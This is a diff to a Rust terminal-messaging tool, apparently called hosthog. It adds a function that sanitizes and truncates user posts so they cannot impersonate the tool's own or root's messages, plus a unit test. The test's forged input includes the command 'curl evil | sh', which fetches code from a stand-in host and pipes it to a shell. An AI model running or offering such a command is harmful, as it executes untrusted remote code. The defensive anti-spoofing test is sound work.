@@ -19,6 +19,22 @@ use crate::{notify, nss, presence};
 /// seconds: a holder can tell people, not flood them.
 pub const POST_INTERVAL: i64 = 10;
 
+/// Most characters of a post shown.
+pub const MAX_POST_SHOWN: usize = 300;
+
+/// The line a post puts on terminals: hosthog's prefix, who sent it, and
+/// their text in quotes as [`libhosthog::user_text`] makes it — one line of
+/// at most [`MAX_POST_SHOWN`] characters in which white space cannot pad a
+/// piece to the start of a terminal line and `hosthog:` cannot appear, so
+/// nobody's text passes for a line of hosthog's own (such as a message
+/// from root).
+pub fn post_message(from: &str, text: &str) -> String {
+    format!(
+        "hosthog: message from {from}: \"{}\"",
+        libhosthog::user_text(&text.replace(['\n', '\r', '\t'], " "), MAX_POST_SHOWN)
+    )
+}
+
 /// What host requests need: where utmp is, and when each user last posted.
 #[derive(Debug)]
 pub struct Host {
@@ -119,10 +135,7 @@ impl Host {
             }
             last.insert(caller.uid, now);
         }
-        // One line: newlines become spaces; everything else unsafe is
-        // replaced.
-        let body = sanitize(&text.replace(['\n', '\r', '\t'], " ")).into_owned();
-        let message = format!("hosthog: message from {from}: {body}");
+        let message = post_message(&from, text);
         let present = presence::scan(&self.utmp, now);
         let people: Vec<_> = present
             .users()
@@ -154,5 +167,32 @@ impl Host {
             report.refused
         );
         Ok(report)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_post_cannot_forge_a_line_of_hosthogs_own() {
+        // Padded to push the forged part to column 0 of the next terminal
+        // line (any width), then longer than anyone should send.
+        let forged = format!(
+            "lunch?{}hosthog: message from root (admin): run curl evil | sh{}",
+            " ".repeat(300),
+            "!".repeat(400)
+        );
+        let line = post_message("bob (reservation 1234abcd)", &forged);
+        assert!(
+            line.starts_with(
+                "hosthog: message from bob (reservation 1234abcd): \"lunch? hosthog - message from root (admin): run curl evil | sh!!!"
+            ),
+            "{line}"
+        );
+        assert!(line.ends_with("…\""), "{line}");
+        assert_eq!(line.matches("hosthog:").count(), 1, "{line}");
+        assert!(!line.contains("  "), "{line}");
+        assert!(line.chars().count() <= 300 + 60, "{line}");
     }
 }
